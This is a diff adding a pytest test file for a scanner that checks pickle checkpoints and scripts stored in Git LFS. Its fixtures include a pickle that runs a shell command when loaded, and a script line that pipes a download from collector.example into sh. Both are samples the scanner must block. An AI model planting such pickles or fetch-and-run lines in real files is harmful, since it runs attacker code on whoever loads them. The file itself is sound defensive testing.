@@ -1,0 +1,224 @@
+"""Checkpoints in Git LFS, from a real repository through real workers to the reports."""
+
+import json
+import pickle
+import zipfile
+from collections.abc import Iterator
+from io import BytesIO
+from pathlib import Path
+
+import pytest
+
+from scanner import pipeline
+from scanner.config import build
+from scanner.finding import Verdict
+from scanner.report import Scan, summary, text
+from tests.collect.lfs import objects
+from tests.collect.lfs.objects import Store, storing
+from tests.fakes import Reply
+from tests.recipes.git import clone, commit, git, new, write
+
+BAD = b"cposix\nsystem\n(S'echo poisoned'\ntR."
+HONEST = pickle.dumps({"weights": [1.0] * 9})
+
+
+def checkpoint(payload: bytes, tensors: int, size: int) -> bytes:
+    """What torch.save writes: a pickle and stored tensors, of ``size`` bytes each, in a ZIP archive."""
+    file = BytesIO()
+    with zipfile.ZipFile(file, "w", zipfile.ZIP_STORED) as archive:
+        archive.writestr("archive/data.pkl", payload)
+        archive.writestr("archive/version", b"3\n")
+        for number in range(tensors):
+            archive.writestr(f"archive/data/{number}", bytes(size))
+    return file.getvalue()
+
+
+@pytest.fixture
+def store(monkeypatch: pytest.MonkeyPatch) -> Iterator[Store]:
+    monkeypatch.setattr("scanner.http._PAUSES", ())
+    with storing() as fake:
+        yield fake
+
+
+@pytest.fixture
+def repo(tmp_path: Path, store: Store, monkeypatch: pytest.MonkeyPatch) -> Path:
+    place = new(tmp_path / "repo")
+    commit(place, {"README": b"r"})
+    git(place, "config", "lfs.url", store.url)
+    monkeypatch.chdir(place)
+    return place
+
+
+def scan(**options: object) -> Scan:
+    return pipeline.scan(build(**{"base": "HEAD^", "head": "HEAD", **options}))  # type: ignore[arg-type]
+
+
+def verdicts(result: Scan) -> dict[str, Verdict]:
+    return {report.path: report.verdict for report in result.reports}
+
+
+def test_what_a_pointer_stands_for_is_what_counts(repo: Path, store: Store) -> None:
+    for content in (BAD, HONEST):
+        store.add(content)
+    commit(repo, {"bad.pkl": objects.text(BAD), "honest.pkl": objects.text(HONEST), "plain.pkl": HONEST})
+    result = scan()
+    assert verdicts(result) == {
+        "bad.pkl": Verdict.BLOCKED,
+        "honest.pkl": Verdict.CLEAN,
+        "plain.pkl": Verdict.CLEAN,
+    }
+    assert result.exit_code == 1
+    cost = f"of 2 objects with {len(BAD) + len(HONEST):,} bytes, {len(BAD) + len(HONEST):,} bytes were transferred"
+    assert cost in summary.render(result) and cost in text.render(result)
+    assert [asked.method for asked in store.asked] == ["POST", "GET", "GET"]
+
+
+def test_a_large_checkpoint_costs_kilobytes(repo: Path, store: Store) -> None:
+    content = checkpoint(BAD, tensors=8, size=16 << 20)
+    store.add(content)
+    commit(repo, {"large.pt": objects.text(content)})
+    result = scan()
+    assert verdicts(result) == {"large.pt": Verdict.BLOCKED}
+    (report,) = result.reports
+    assert report.size == len(content) > 128 << 20
+    moved = sum(1 for asked in store.asked if asked.method == "GET")
+    assert moved < 20
+    sent = result.notices[-1].message.rsplit(", ", 1)[1]
+    assert sent.endswith("bytes were transferred")
+    assert int(result.notices[-1].message.split("bytes, ")[1].split(" ")[0].replace(",", "")) < 400_000
+
+
+def test_what_cannot_be_fetched_is_a_finding(repo: Path, store: Store) -> None:
+    commit(repo, {"gone.pkl": objects.text(BAD), "x/gone.data": objects.text(HONEST)})
+    result = scan()
+    assert verdicts(result) == {"gone.pkl": Verdict.UNSCANNED, "x/gone.data": Verdict.UNSCANNED}
+    for finding in result.findings:
+        assert finding.rule == "unscanned-artifact"
+        assert (
+            "Git LFS pointer (sha256 " in finding.message and "has not pushed the object" in finding.message
+        )
+
+
+@pytest.mark.parametrize(
+    ("reply", "says"),
+    [
+        (Reply(509, {"message": "quota"}), "bandwidth"),
+        (
+            Reply(206, b"x" * len(BAD), {"Content-Range": f"bytes 0-{len(BAD) - 1}/{len(BAD)}"}),
+            "another SHA-256",
+        ),
+        (Reply(500), "HTTP 500"),
+    ],
+)
+def test_what_breaks_off_while_it_is_read_is_a_finding(
+    repo: Path, store: Store, reply: Reply, says: str
+) -> None:
+    store.add(BAD)
+    store.serve = lambda asked: reply
+    commit(repo, {"bad.pkl": objects.text(BAD)})
+    (report,) = scan().reports
+    assert report.failure is None
+    assert {finding.rule for finding in report.findings} == {"incomplete-analysis"}
+    assert says in report.findings[0].message
+    assert report.verdict is not Verdict.CLEAN
+
+
+def test_a_file_that_only_resembles_a_pointer_is_scanned_as_it_is(repo: Path, store: Store) -> None:
+    commit(repo, {"load.py": objects.text(HONEST) + b"import os\n"})
+    (report,) = scan().reports
+    assert report.verdict is not Verdict.CLEAN
+    assert store.asked == []
+
+
+def test_never_means_that_nobody_is_asked(repo: Path, store: Store) -> None:
+    store.add(BAD)
+    commit(repo, {"bad.pkl": objects.text(BAD)})
+    result = scan(lfs="never")
+    assert verdicts(result) == {"bad.pkl": Verdict.UNSCANNED}
+    assert store.asked == []
+
+
+@pytest.mark.parametrize("where", ["store", "tree"])
+def test_what_is_here_is_not_fetched_if_it_is_the_right_one(repo: Path, store: Store, where: str) -> None:
+    store.add(BAD)
+    oid = objects.pointer(BAD).oid
+    commit(repo, {"bad.pkl": objects.text(BAD)})
+    place = {"store": f".git/lfs/objects/{oid[:2]}/{oid[2:4]}/{oid}", "tree": "bad.pkl"}[where]
+    write(repo, {place: BAD})
+    assert verdicts(scan()) == {"bad.pkl": Verdict.BLOCKED}
+    assert store.asked == []
+    write(repo, {place: b"x" * len(BAD)})  # right in length only
+    assert verdicts(scan()) == {"bad.pkl": Verdict.BLOCKED}
+    assert len(store.asked) == 2
+
+
+def test_files_on_disk_are_looked_up_in_the_clone_and_nowhere_else(repo: Path, store: Store) -> None:
+    store.add(BAD)
+    oid = objects.pointer(BAD).oid
+    write(repo, {"bad.pkl": objects.text(BAD)})
+    result = pipeline.scan(build(paths=["bad.pkl"]))
+    assert verdicts(result) == {"bad.pkl": Verdict.UNSCANNED}
+    assert "git lfs pull" in result.findings[0].message
+    write(repo, {f".git/lfs/objects/{oid[:2]}/{oid[2:4]}/{oid}": BAD})
+    assert verdicts(pipeline.scan(build(paths=["bad.pkl"]))) == {"bad.pkl": Verdict.BLOCKED}
+    assert store.asked == []
+
+
+def test_the_changes_own_lfsconfig_sends_us_nowhere(repo: Path, store: Store) -> None:
+    git(repo, "config", "--unset", "lfs.url")
+    store.add(BAD)
+    commit(repo, {"bad.pkl": objects.text(BAD), ".lfsconfig": f"[lfs]\n\turl = {store.url}\n".encode()})
+    assert verdicts(scan())["bad.pkl"] is Verdict.UNSCANNED
+    assert store.asked == []
+    commit(repo, {"more.pkl": objects.text(BAD)})
+    assert verdicts(scan()) == {"more.pkl": Verdict.BLOCKED}
+
+
+def test_an_earlier_version_in_lfs_is_compared(repo: Path, store: Store) -> None:
+    longer = BAD + b"trailing"
+    for content in (BAD, longer):
+        store.add(content)
+    commit(repo, {"bad.pkl": objects.text(BAD)})
+    commit(repo, {"bad.pkl": objects.text(longer)})
+    result = scan()
+    assert {f.existing for f in result.findings if f.rule == "command-on-load"} == {"bad.pkl"}
+    commit(repo, {"bad.pkl": longer})  # out of LFS, and the same
+    assert {f.existing for f in scan().findings} == {"bad.pkl"}
+
+
+def test_a_suppression_is_for_the_object_and_not_for_the_pointer(repo: Path, store: Store) -> None:
+    store.add(BAD)
+    entry = (
+        '[[suppress]]\nrule = "command-on-load"\npath = "bad.pkl"\nreason = "fixture"\nexpires = 9999-12-31\n'
+        f'sha256 = "{objects.pointer(BAD).oid}"\n'
+    )
+    commit(repo, {"modelgate.toml": entry.encode()})
+    commit(repo, {"bad.pkl": objects.text(BAD)})
+    result = scan()
+    assert (result.exit_code, len(result.accepted)) == (0, 1)
+    assert sum(asked.method == "GET" for asked in store.asked) == 1
+
+
+def test_scripts_in_lfs_have_their_lines_told(repo: Path, store: Store) -> None:
+    script = b"import os\n\nos.system('curl https://collector.example/x | sh')\n"
+    store.add(script)
+    commit(repo, {"load.py": objects.text(script)})
+    result = scan()
+    assert verdicts(result) == {"load.py": Verdict.BLOCKED}
+    assert result.text_of("load.py") == script.decode()
+
+
+def test_at_depth_1_with_pointers_in_the_work_tree(
+    repo: Path, store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """What actions/checkout leaves without `lfs: true`."""
+    store.add(BAD)
+    base = git(repo, "rev-parse", "HEAD")
+    commit(
+        repo, {"bad.pkl": objects.text(BAD), ".gitattributes": b"*.pkl filter=lfs diff=lfs merge=lfs -text\n"}
+    )
+    here = clone(repo, tmp_path / "ci")
+    git(here, "config", "lfs.url", store.url)
+    monkeypatch.chdir(here)
+    assert verdicts(scan(base=base))["bad.pkl"] is Verdict.BLOCKED
+    assert json.dumps(str(store.asked[0].body["operation"])) == '"download"'
